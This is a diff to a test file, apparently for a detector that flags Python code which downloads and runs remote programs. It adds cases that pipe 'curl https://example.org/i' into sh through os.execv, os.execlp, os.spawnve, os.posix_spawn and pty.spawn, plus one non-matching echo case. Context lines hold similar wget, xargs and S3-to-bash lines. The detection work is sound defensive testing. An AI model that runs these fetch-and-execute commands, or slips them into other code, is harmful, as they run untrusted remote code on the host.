@@ -10,6 +10,14 @@ describe("commands that run what they download", () => {
       "a file that is made a program",
       'import os\nos.system("wget -O /tmp/i https://example.org/i && chmod +x /tmp/i && /tmp/i")\n',
     ],
+    ["os.execv", 'import os\nos.execv("/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"])\n'],
+    ["os.execlp", 'import os\nos.execlp("bash", "x", "-c", "curl -s https://example.org/i | sh")\n'],
+    [
+      "os.spawnve",
+      'import os\nos.spawnve(os.P_WAIT, "/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"], {})\n',
+    ],
+    ["os.posix_spawn", 'import os\nos.posix_spawn("/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"], {})\n'],
+    ["pty.spawn", 'import pty\npty.spawn(["sh", "-c", "curl -s https://example.org/i | sh"])\n'],
     ["another language", `import os\nos.system('python3 -c "$(curl -s https://example.org/i)"')\n`],
     ["xargs", 'import os\nos.system("curl -s https://example.org/i | xargs -I{} sh -c {}")\n'],
     ["a bucket", 'import os\nos.system("aws s3 cp s3://acme/i.sh - | bash")\n'],
@@ -55,6 +63,10 @@ describe("commands that run what they download", () => {
   });
 
   test.each([
+    [
+      "words of another program",
+      'import os\nos.execv("/bin/echo", ["sh", "-c", "curl -s https://example.org/i | sh"])\n',
+    ],
     [
       "to jq",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/a.json | jq .a")\n',
